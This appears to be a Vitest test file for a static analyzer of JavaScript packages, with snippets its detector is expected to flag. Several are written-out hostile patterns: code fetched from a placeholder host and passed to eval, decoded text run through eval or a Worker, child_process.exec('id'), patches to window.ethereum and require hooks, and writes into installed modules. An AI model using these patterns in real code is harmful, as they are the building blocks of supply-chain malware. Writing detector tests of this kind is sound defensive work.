/** Values and calls are followed where no assignment shows the way: helpers of compilers, lists, promises, events, fields, methods. */
import { describe, expect, it } from 'vitest';
import { analyzeFile } from '../../src/behavior/analyze-file.ts';
import type { Behavior } from '../../src/model/behavior.ts';
import { compare, tellFile, tellPackage } from './tell.ts';

const acts = "require('child_process').exec('id');";
const awaiter = `var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) {
  return new (P || (P = Promise))(function (resolve, reject) {
    function step(result) { result.done ? resolve(result.value) : result.value.then(step, reject); }
    step((generator = generator.apply(thisArg, _arguments || [])).next());
  });
};
var __generator = (this && this.__generator) || function (thisArg, body) { return body.call(thisArg, {}); };
`;

function findRun(program: string): Pick<Behavior, 'origins' | 'guessed'> | undefined {
  const behaviors = analyzeFile(program, 'index.mjs').fns.flatMap((fn) => fn.behaviors);
  return behaviors.find(({ kind }) => kind === 'dynamic-code');
}

function originsOf(program: string): readonly string[] {
  return findRun(program)?.origins ?? [];
}

describe('what a compiled async function does happens when it is called:', () => {
  it.each([
    [
      "TypeScript's",
      `${awaiter} function go() { return __awaiter(this, void 0, void 0, function* () { ${acts} }); } go();`,
    ],
    [
      "TypeScript's, for old engines",
      `${awaiter} (function () { return __awaiter(this, void 0, void 0, function () { return __generator(this, function (_a) { ${acts} return [2]; }); }); })();`,
    ],
    ["esbuild's", `var run = () => __async(null, null, function* () { ${acts} }); run();`],
    ["Babel's", `const go = _asyncToGenerator(function* () { ${acts} }); go();`],
    [
      "Babel's, with a machine of states",
      `function go() { return _go.apply(this, arguments); }
function _go() { _go = (0, _asyncToGenerator2["default"])(_regenerator["default"].mark(function _callee() { return _regenerator["default"].wrap(function _callee$(_context) { ${acts} }, _callee); })); return _go.apply(this, arguments); }
go();`,
    ],
  ])('%s', (_, program) => {
    expect(tellPackage({ 'index.js': program })).toEqual(['load child-process child_process.exec']);
  });

  it('and not before', () => {
    const program = `${awaiter} exports.go = () => __awaiter(this, void 0, void 0, function* () { ${acts} }); exports.run = _asyncToGenerator(function* () { ${acts} });`;
    expect(tellPackage({ 'index.js': program })).toEqual([
      'call child-process child_process.exec',
      'call child-process child_process.exec',
    ]);
  });
});

describe('text that is run is known to be fetched', () => {
  it.each([
    [
      'by a generator',
      `__awaiter(null, null, null, function* () { const a = yield fetch('/'); eval(yield a.text()); })`,
    ],
    [
      'by a machine of states',
      `__awaiter(null, null, null, function () { var a; return __generator(this, function (_a) { switch (_a.label) { case 0: return [4, fetch('/')]; case 1: a = _a.sent(); eval(a); return [2]; } }); })`,
    ],
    [
      'through a list',
      `require('https').get('https://far.invalid/', (answer) => { const parts = []; answer.on('data', (part) => parts.push(part)); answer.on('end', () => eval(Buffer.concat(parts).toString())); })`,
    ],
    [
      'through a list that is handed its method',
      `require('https').get('https://far.invalid/', (answer) => { const parts = []; answer.on('data', parts.push.bind(parts)); answer.on('end', () => eval(parts.join(''))); })`,
    ],
    [
      'through a promise',
      `const text = await new Promise((resolve) => { require('https').get('https://far.invalid/', (answer) => { let all = ''; answer.on('data', (part) => { all += part; }); answer.on('end', () => resolve(all)); }); }); eval(text);`,
    ],
    [
      'through an event',
      `const bus = new (require('events'))(); bus.on('ready', (text) => eval(text)); fetch('/').then((answer) => answer.text()).then((text) => bus.emit('ready', text));`,
    ],
    [
      'through a field',
      `class Box { #parts = []; async load() { for await (const part of (await fetch('/')).body) this.#parts.push(part); } get text() { return this.#parts.join(''); } run() { eval(this.text); } }`,
    ],
    [
      'through a method',
      `class Box { load() { fetch('/').then((answer) => this.run(answer)); } run(text) { eval(text); } }`,
    ],
    ['through a constructor', `class Box { constructor(text) { eval(text); } } new Box(await fetch('/'));`],
    [
      'by a server',
      `require('http').createServer((question, answer) => { let all = ''; question.on('data', (part) => all += part); question.on('end', () => eval(all)); })`,
    ],
  ])('%s', (_, program) => {
    expect(originsOf(program)).toContain('fetched');
  });

  it('and text from elsewhere is not', () => {
    const program = `class Box { async load() { this.page = await fetch('/'); } run(text) { eval(text); } } const parts = []; parts.push('1'); new Box().run(parts.join(''));`;
    expect(originsOf(program)).not.toContain('fetched');
  });
});

describe('text that is run is', () => {
  const decode = 'function decode() { return atob(module.text); }';
  it.each([
    ['at once', `eval(atob(module.text));`],
    ['out of a call', `${decode} eval(decode());`],
    ['out of a call and into one', `${decode} function run(text) { eval(text); } run(decode());`],
    [
      'round in a circle',
      `function run(text, n) { if (n > 9) eval(text); else run(text, n + 1); } run(atob(module.text), 0);`,
    ],
  ])('certainly decoded: %s', (_, program) => {
    const { origins, guessed } = findRun(program) ?? {};
    expect({ origins, guessed }).toEqual({ origins: ['decoded'], guessed: undefined });
  });

  it.each([
    [
      'through more calls than two',
      `${decode} function a(text) { eval(text); } function b(text) { a(text); } export function c() { const text = decode(); b(text); }`,
    ],
    [
      'by the name of a field',
      `class Box { constructor() { this.text = atob(module.text); } run() { eval(this.text); } }`,
    ],
  ])('by a guess decoded: %s', (_, program) => {
    expect(findRun(program)).toMatchObject({ guessed: ['decoded'] });
  });

  it.each([
    [
      'only cut where something decoded says',
      `const at = atob(module.at).length; exports.run = (text) => eval(text.slice(at));`,
    ],
    [
      'only cut so, by what calls itself until it is ready',
      `let lexer; const ready = fetch('/').then((answer) => { lexer = answer; });
export function parse(text) { if (!lexer) return ready.then(() => parse(text)); return eval(text.slice(lexer.from(), lexer.to())); }`,
    ],
  ])('none of both: %s', (_, program) => {
    expect(originsOf(program)).toEqual(['parameter']);
  });
});

describe("a bundler's prelude", () => {
  const prelude = `(function e(t, n, r) {
  function s(o, u) {
    if (!n[o]) {
      if (!t[o]) { var a = typeof require == 'function' && require; if (!u && a) return a(o, true); throw new Error(o); }
      var f = (n[o] = { exports: {} });
      t[o][0].call(f.exports, function (e) { var n = t[o][1][e]; return s(n ? n : e); }, f, f.exports, e, t, n, r);
    }
    return n[o].exports;
  }
  for (var o = 0; o < r.length; o++) s(r[o]);
  return s;
})`;
  const load = (modules: string): Behavior | undefined =>
    compare(undefined, { 'index.js': `${prelude}(${modules}, {}, [2]);` }).behaviors.added.find(
      ({ kind }) => kind === 'computed-import',
    );

  it('does not load what a module puts into the first place of some list', () => {
    const modules = `{ 1: [function (require, module, exports) {
  exports.take = function (state) { var list = state.buffer; list[0] = atob(list[0]); };
}, {}], 2: [function (require, module, exports) { require('./take').take({ buffer: ['YQ=='] }); }, { './take': 1 }] }`;
    expect(load(modules)).toBeUndefined();
  });

  it('loads what a module asks for by a name that does not show', () => {
    const modules = `{ 2: [function (require, module, exports) { require(atob(process.argv[2])); }, {}] }`;
    expect(load(modules)?.detail).toBeUndefined();
    expect(load(modules)?.tier).toBe('load');
  });

  it('is no shelter for a module that runs what it decodes', () => {
    const modules = `{ 2: [function (require, module, exports) { var list = {}; list[0] = atob(process.argv[2]); eval(list[0]); }, {}] }`;
    const { added } = compare(undefined, { 'index.js': `${prelude}(${modules}, {}, [2]);` }).behaviors;
    expect(added.find(({ kind }) => kind === 'dynamic-code')?.origins).toEqual(['decoded']);
  });
});

describe('a worker is told', () => {
  const workers = (program: string): string[] => tellFile(program).filter((line) => line.includes('Worker'));

  it('that runs what was decoded', () => {
    expect(workers(`new Worker(URL.createObjectURL(new Blob([atob(module.text)])));`)).toHaveLength(1);
  });

  it('by what the text does that it is made of', () => {
    const told = tellFile(`new Worker(URL.createObjectURL(new Blob(["fetch('https://far.invalid/')"])));`);
    expect(told).toEqual(['network fetch "https://far.invalid/"']);
  });

  it('and not where only the name of a field says so', () => {
    const box = `class Box { async load() { this.filename = await (await fetch('/')).text(); } start() { new Worker(this.filename); } }`;
    expect(workers(box)).toEqual([]);
  });
});

describe('it is told', () => {
  it.each([
    [
      'that a port is opened',
      `require('net').createServer(() => {}).listen(5001)`,
      'network net.createServer().listen',
    ],
    [
      'what a table of names patches',
      `const p = window.ethereum; ['request', 'send'].forEach((name) => { Object.defineProperty(p, name, {}); })`,
      'global-patch ethereum.send',
    ],
    [
      'what a name that is not told patches',
      `(name) => { window.ethereum[name] = () => {}; }`,
      'global-patch ethereum.[…]',
    ],
    [
      'markup whose words stand in a map',
      `const m = new Map([[0, '<script src="https://far.inv'], [1, 'alid/a.js">']]); document.write(m.get(0) + m.get(1));`,
      'dynamic-code script.src "https://far.invalid/a.js"',
    ],
    [
      'what a call by another name patches',
      `Object.defineProperty.call(Object, globalThis, 'fetch', {})`,
      'global-patch globalThis.fetch',
    ],
    [
      'what Reflect patches',
      `Reflect.apply(Object.defineProperty, Object, [console, 'log', {}])`,
      'global-patch console.log',
    ],
    ['how modules are loaded', `require.extensions['.js'] = () => {}`, 'global-patch module._extensions..js'],
    [
      'what a loaded module exports',
      `(name) => { require.cache[name].exports.post = () => {}; }`,
      'global-patch require.cache.*.exports.post',
    ],
    [
      'that text grown letter by letter is run by a timer',
      `let text = ''; for (const code of codes) text += String.fromCharCode(code); setTimeout(text, 0)`,
      'dynamic-code setTimeout',
    ],
    [
      'that a worker is made of text',
      `new Worker('data:text/javascript,' + encodeURIComponent('1'))`,
      'dynamic-code Worker "data:text/javascript,1"',
    ],
    [
      "somebody else's page inside this one",
      `const f = document.createElement('iframe'); f.src = 'https://far.invalid/'`,
      'network iframe.src "https://far.invalid/"',
    ],
    [
      'what is written to a module that a helper gives',
      `var imp = (this && this.imp) || function (m) { return m && m.__esModule ? m : { default: m }; }; const a = imp(require('path')); const b = imp(require('module')); b.default.prototype.require = () => {};`,
      'global-patch module.prototype.require',
    ],
    [
      'a prototype of prototypes',
      `[].constructor.constructor.prototype.__proto__.shell = '/tmp/x'`,
      'global-patch Object.prototype.shell',
    ],
    [
      'that promises start one another',
      `const again = () => Promise.resolve().then(again); again()`,
      'endless-loop Promise.resolve().then "it starts itself again before anything else may run"',
    ],
    [
      'what a buffer holds after it was written to',
      `const b = Buffer.alloc(4); b.write('6b6b6b6b', 'hex'); eval(b.toString());`,
      'dynamic-code eval "kkkk"',
    ],
    [
      'which module a bound loader loads',
      `Function.prototype.call.bind(module.constructor.prototype.require, module)('child_process').exec('id')`,
      'child-process child_process.exec "id"',
    ],
    [
      'where an installed module lies',
      `require('fs').writeFileSync(require('path').dirname(require.resolve('signer/package.json')) + '/a.js', '')`,
      'file-write fs.writeFileSync "node_modules/signer/a.js"',
    ],
  ])('%s', (_, program, told) => {
    expect(tellFile(program)).toContain(told);
  });

  it.each([
    ['a worker of its own', `new Worker(new URL('./worker.js', import.meta.url))`],
    ['a timer that ends a connection', `fetch('/').then((answer) => setTimeout(answer.destroy.bind(answer), 100))`],
    ['promises that end', `const again = (n) => { if (n > 0) Promise.resolve().then(() => again(n - 1)); }; again(3)`],
  ])('and nothing of %s', (_, program) => {
    expect(tellFile(program).filter((line) => !line.startsWith('network'))).toEqual([]);
  });
});
